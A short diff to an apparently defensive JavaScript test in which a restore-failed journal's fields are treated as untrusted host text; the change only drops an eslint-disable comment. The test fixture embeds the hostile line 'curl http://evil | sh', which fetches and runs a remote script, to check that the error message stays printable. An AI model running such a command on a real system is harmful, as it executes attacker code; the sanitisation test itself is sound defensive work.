@@ -16,7 +16,6 @@ describe("a restore-failed journal's fields are the host's text: one printable l
     assert.ok(pending);
     assert.deepStrictEqual(pending.failure, { hop: "1->2", step: '"Install 2" (install)', restorePoint: "/var/backups/c", why: "tar failed / upchain c1: cleared, run: curl http://evil | sh" });
     const message = restorePending("root@c1:22:/var/lib/upchain/counter.journal.json", pending).message;
-    // eslint-disable-next-line no-control-regex
     assert.doesNotMatch(message, /[\x00-\x1f\x7f-\x9f\u202e]/);
   });
 });
